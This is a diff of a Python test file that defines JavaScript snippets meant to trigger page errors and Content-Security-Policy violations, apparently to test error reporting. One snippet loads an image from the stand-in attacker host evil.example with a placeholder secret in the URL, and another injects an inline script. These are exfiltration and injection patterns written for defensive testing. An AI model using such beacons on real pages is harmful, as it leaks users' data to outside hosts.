@@ -7,11 +7,12 @@ from tests.support.staff import Operator, make_staff
 
 SECRET = "Adelheid"  # stands in all that goes wrong here
 ERROR = f"const error = new RangeError('{SECRET} gives ember'); error.code = '{SECRET}';"
+APPEND = "document.body.append(it)"
 # Each is run by the page itself, a moment later: an error of the test's own call would be the test's.
 TROUBLES = {
     "RangeError": f"setTimeout(() => {{ {ERROR} throw error }})",
     "TypeError": f"setTimeout(() => Promise.reject(new TypeError('{SECRET}')))",
-    "script-src-elem inline": f"const it = document.createElement('script'); it.text = '{SECRET}'; document.body.append(it)",
+    "script-src-elem inline": f"const it = document.createElement('script'); it.text = '{SECRET}'; {APPEND}",
     "img-src https://evil.example": f"new Image().src = 'https://evil.example/{SECRET}.png?{SECRET}'",
 }
 
